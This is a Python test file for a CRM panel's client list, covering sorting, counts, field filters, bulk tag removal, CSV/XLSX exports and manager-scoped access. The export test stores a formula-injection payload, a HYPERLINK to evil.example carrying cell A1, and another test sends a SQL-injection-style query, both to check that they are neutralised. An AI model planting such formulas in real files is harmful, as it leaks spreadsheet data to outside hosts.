"""The client list in the panel: sorting by a column header, the total, list and flag
fields filtered by a chosen value, bulk removal of tags, CSV and XLSX exports of the
filtered list (formula-safe, capped), and a manager who sees only their own clients."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime, timedelta

import pytest
from openpyxl import load_workbook
from tortoise import connections

from crm import client_export, client_list, fields
from crm.history import list_changes
from crm.interactions import record_done
from crm.models import Client, Role, Tag, User
from tests.admin_web.conftest import Browser, make_user
from tests.crm import factories

ROW_RE = re.compile(r'<a href="/clients/(\d+)">')


def order(text: str) -> list[int]:
    return [int(n) for n in ROW_RE.findall(text)]


async def _three(admin: User, manager: User) -> list[Client]:
    a = await factories.client(admin, name="Борис", responsible_id=manager.id)
    b = await factories.client(admin, name="Алла")
    c = await factories.client(admin, name="Вера", responsible_id=admin.id)
    base = datetime(2026, 1, 1, tzinfo=UTC)
    for n, client in enumerate((a, b, c)):  # created: a first, c last
        await Client.filter(id=client.id).update(created_at=base + timedelta(days=n))
    await record_done(actor=admin, kind="call", client_id=c.id, at=base + timedelta(days=10))
    await record_done(actor=admin, kind="call", client_id=a.id, at=base + timedelta(days=20))
    return [a, b, c]


async def test_sorting_by_each_column(as_admin: Browser, admin: User, manager: User) -> None:
    a, b, c = await _three(admin, manager)
    _, text = await as_admin.get("/clients")
    assert order(text) == [b.id, a.id, c.id]  # by name
    assert 'href="/clients?sort=-name"' in text  # the current column: a click reverses it
    _, text = await as_admin.get("/clients?sort=-name")
    assert order(text) == [c.id, a.id, b.id]
    _, text = await as_admin.get("/clients?sort=created")
    assert order(text) == [a.id, b.id, c.id]
    _, text = await as_admin.get("/clients?sort=-created")
    assert order(text) == [c.id, b.id, a.id]
    _, text = await as_admin.get("/clients?sort=last_contact")
    assert order(text) == [b.id, c.id, a.id]  # never contacted first
    _, text = await as_admin.get("/clients?sort=-last_contact")
    assert order(text) == [a.id, c.id, b.id]
    _, text = await as_admin.get("/clients?sort=responsible")
    assert order(text) == [b.id, c.id, a.id]  # nobody, Anna Boss, Ivan Manager
    # the pager and the filter form keep the order
    assert 'name="sort" value="responsible"' in text


async def test_ties_break_by_id_and_pages_keep_the_order(as_admin: Browser, admin: User) -> None:
    same = [await factories.client(admin, name="Тёзка") for _ in range(3)]
    ids = [c.id for c in same]
    rows, _ = await client_list.find_clients(admin, client_list.ClientFilters(), per_page=2)
    more, has_more = await client_list.find_clients(
        admin, client_list.ClientFilters(), per_page=2, page=2
    )
    assert [c.id for c in rows + more] == ids and not has_more
    rows, _ = await client_list.find_clients(
        admin, client_list.ClientFilters(), per_page=5, sort="-name"
    )
    assert [c.id for c in rows] == ids[::-1]


async def test_unknown_sort_is_refused(as_admin: Browser) -> None:
    status, text = await as_admin.get("/clients?sort=password_hash")
    assert status == 422 and "Unknown choice" in text
    status, _ = await as_admin.get("/clients/export.csv?sort=-inn")
    assert status == 422


async def test_total_count(as_admin: Browser, admin: User, monkeypatch: pytest.MonkeyPatch) -> None:
    for n in range(5):
        await factories.client(admin, name=f"Клиент {n}", tags=["VIP"] if n < 2 else [])
    _, text = await as_admin.get("/clients")
    assert "Clients found: 5" in text
    tag = await Tag.get(name="VIP")
    _, text = await as_admin.get(f"/clients?tag_id={tag.id}")
    assert "Clients found: 2" in text
    monkeypatch.setattr(client_list, "COUNT_CAP", 3)
    _, text = await as_admin.get("/clients?q=Клиент")
    assert "Clients found: 5" in text  # a first page holding every match is counted by it
    total = await client_list.count_clients(admin, client_list.ClientFilters(q="Клиент"))
    conn = connections.get("default")
    if conn.capabilities.dialect == "postgres":  # past the exact count: the planner's guess
        assert total.estimate and total.count > 3
    else:
        assert total == client_list.Total(3, more=True)
    status, _ = await as_admin.get("/clients?q=%27%3B%20SELECT%201%3B%20--%20%5C")  # quoted
    assert status == 200
    # the whole list: on PostgreSQL the planner's row estimate, said to be one
    total = await client_list.count_clients(admin, client_list.ClientFilters())
    if conn.capabilities.dialect == "postgres":
        await conn.execute_script("ANALYZE clients")
        total = await client_list.count_clients(admin, client_list.ClientFilters())
        assert total == client_list.Total(5, estimate=True)
    else:
        assert total == client_list.Total(3, more=True)


async def _fields() -> tuple[int, dict[str, int], int]:
    loyalty = await fields.create_field(
        name="Loyalty", type="list", options=["Gold", "Silver"], actor=None
    )
    maps = await fields.option_maps([loyalty])
    vip = await fields.create_field(name="Partner", type="flag", actor=None)
    return loyalty.id, maps[loyalty.id], vip.id


async def test_list_and_flag_fields_filter_by_a_chosen_value(
    as_admin: Browser, admin: User
) -> None:
    loyalty, options, partner = await _fields()
    gold = await factories.client(admin, name="Золото", custom={loyalty: "Gold", partner: "1"})
    silver = await factories.client(admin, name="Серебро", custom={loyalty: "Silver"})
    _, text = await as_admin.get("/clients")
    # a select of the options, not a text box
    assert f'<select name="cf_{loyalty}"' in text and f'<option value="{options["Gold"]}"' in text
    assert f'<select name="cf_{partner}"' in text
    _, text = await as_admin.get(f"/clients?cf_{loyalty}={options['Gold']}")
    assert order(text) == [gold.id]
    assert f'<option value="{options["Gold"]}" selected>' in text
    _, text = await as_admin.get(f"/clients?cf_{loyalty}={options['Silver']}")
    assert order(text) == [silver.id]
    _, text = await as_admin.get(f"/clients?cf_{partner}=1")
    assert order(text) == [gold.id]
    _, text = await as_admin.get(f"/clients?cf_{partner}=0")
    assert order(text) == []  # a flag never set is not "no"
    _, text = await as_admin.get(f"/clients?cf_{loyalty}={options['Gold']}&cf_{partner}=1")
    assert order(text) == [gold.id]
    # bad values: an option of no field, a flag that is not yes/no, an unknown field
    status, text = await as_admin.get(f"/clients?cf_{loyalty}=999999")
    assert status == 422 and "Unknown choice" in text
    status, _ = await as_admin.get(f"/clients?cf_{partner}=maybe")
    assert status == 422
    status, text = await as_admin.get("/clients?cf_424242=1")
    assert status == 422 and "Unknown field" in text


async def test_bulk_edit_removes_tags(as_admin: Browser, admin: User) -> None:
    group = [await factories.client(admin, name=f"К{i}", tags=["VIP", "Опт"]) for i in range(3)]
    vip = await Tag.get(name="VIP")
    await as_admin.get("/clients")
    status, text = await as_admin.post(
        "/clients/bulk",
        [("client_ids", group[0].id), ("client_ids", group[1].id), ("tags_remove", vip.id)],
    )
    assert status == 200 and "Updated 2 clients" in text
    names = {c.id: sorted(t.name for t in await c.tags.all()) for c in group}
    assert names == {group[0].id: ["Опт"], group[1].id: ["Опт"], group[2].id: ["VIP", "Опт"]}
    changes = await list_changes("client", group[0].id)
    assert any(h.field == "tags" and h.old == "VIP" and h.new is None for h in changes)
    # every client matching the filter, and an unknown tag refused
    await as_admin.get(f"/clients?tag_id={vip.id}")
    status, _ = await as_admin.post(
        "/clients/bulk", {"all_matching": "1", "tag_id": vip.id, "tags_remove": vip.id}
    )
    assert status == 200
    assert not await Client.filter(tags__id=vip.id).exists()
    status, text = await as_admin.post(
        "/clients/bulk", {"client_ids": group[0].id, "tags_remove": "999999"}
    )
    assert "Unknown tag" in text
    assert sorted(t.name for t in await group[0].tags.all()) == ["Опт"]


HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


async def test_exports_are_formula_safe_and_follow_the_filter(
    as_admin: Browser, admin: User
) -> None:
    await factories.client(admin, name=HOSTILE, phones=["+79161234567"], tags=["VIP"])
    await factories.client(admin, name="Обычный")
    await factories.client(admin, name="Другой")
    tag = await Tag.get(name="VIP")
    resp = await as_admin.client.get("/clients/export.csv?sort=-name")
    assert resp.status == 200 and resp.headers["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO((await resp.read()).decode("utf-8-sig"))))
    assert rows[0][:2] == ["ID", "Client"]
    assert [r[1] for r in rows[1:]] == ["Обычный", "Другой", "'" + HOSTILE]
    assert rows[3][8] == "'+79161234567"  # safe_cell: a leading + is a formula too
    resp = await as_admin.client.get(f"/clients/export.xlsx?tag_id={tag.id}")
    assert resp.status == 200
    book = load_workbook(io.BytesIO(await resp.read()))
    sheet = book.active
    assert sheet is not None
    values = [[c.value for c in row] for row in sheet.iter_rows()]
    assert len(values) == 2 and values[1][1] == "'" + HOSTILE
    assert sheet.cell(row=2, column=2).data_type == "s"


async def test_export_over_the_cap_is_refused_clearly(
    as_admin: Browser, admin: User, monkeypatch: pytest.MonkeyPatch
) -> None:
    for n in range(3):
        await factories.client(admin, name=f"Клиент {n}")
    monkeypatch.setattr(client_export, "EXPORT_MAX", 2)
    status, text = await as_admin.get("/clients/export.csv")
    assert status == 422 and "More than 2 clients match" in text
    monkeypatch.setattr(client_export, "EXPORT_MAX", 3)
    monkeypatch.setattr(client_export, "BATCH", 2)  # read and written in two batches
    resp = await as_admin.client.get("/clients/export.csv")
    lines = (await resp.read()).decode("utf-8-sig").splitlines()
    assert [line.split(",")[1] for line in lines[1:]] == [f"Клиент {n}" for n in range(3)]
    resp = await as_admin.client.get("/clients/export.xlsx")
    assert resp.status == 200
    sheet = load_workbook(io.BytesIO(await resp.read())).active
    assert sheet is not None and sheet.max_row == 4


async def test_a_manager_sees_and_exports_only_their_clients(
    as_manager: Browser, admin: User, manager: User
) -> None:
    mine = await factories.client(admin, name="Мой клиент", responsible_id=manager.id)
    await factories.client(admin, name="Чужой клиент", responsible_id=admin.id)
    await factories.client(admin, name="Ничей клиент")
    _, text = await as_manager.get("/clients")
    assert order(text) == [mine.id] and "Clients found: 1" in text
    for sort in ("name", "-last_contact", "responsible", "-created"):
        _, text = await as_manager.get(f"/clients?sort={sort}")
        assert order(text) == [mine.id]
    resp = await as_manager.client.get("/clients/export.csv")
    body = (await resp.read()).decode("utf-8-sig")
    assert "Мой клиент" in body and "Чужой" not in body and "Ничей" not in body
    resp = await as_manager.client.get("/clients/export.xlsx?sort=-name")
    sheet = load_workbook(io.BytesIO(await resp.read())).active
    assert sheet is not None
    assert [r[1] for r in sheet.iter_rows(min_row=2, values_only=True)] == ["Мой клиент"]


async def test_russian_list_and_export(browser: Browser, db: object) -> None:
    boss = await make_user(Role.ADMIN, email="ru@example.com", locale="ru")
    await factories.client(boss, name="Клиент", responsible_id=boss.id)
    await browser.login(boss.email)
    _, text = await browser.get("/clients?sort=-last_contact")
    for words in ("Найдено клиентов: 1", "Последний контакт ▼", "Выгрузить в XLSX", "Создано"):
        assert words in text, words
    resp = await browser.client.get("/clients/export.csv")
    header = (await resp.read()).decode("utf-8-sig").splitlines()[0]
    assert header.startswith("Код,Клиент,Полное наименование,Вид,ИНН")
    assert "Последний контакт" in header


async def test_the_russian_export_reads_russian(as_admin: Browser, admin: User) -> None:
    from crm import labels

    admin.locale = "ru"
    await admin.save()
    await factories.client(admin, name="ООО Альфа", kind="legal", relation_type="supplier")
    await factories.client(admin, name="ИП Петров", kind="individual")
    resp = await as_admin.client.get("/clients/export.csv?sort=name")
    rows = list(csv.reader(io.StringIO((await resp.read()).decode("utf-8-sig"))))
    kinds = {r[1]: (r[3], r[5]) for r in rows[1:]}
    assert kinds["ООО Альфа"] == (
        labels.text(labels.CLIENT_KIND["legal"], "ru"),
        labels.text(labels.RELATION_TYPE["supplier"], "ru"),
    )
    assert kinds["ИП Петров"][0] == labels.text(labels.SOLE_PROPRIETOR, "ru")
    assert not {"legal", "individual", "supplier", "buyer"} & {
        v for pair in kinds.values() for v in pair
    }
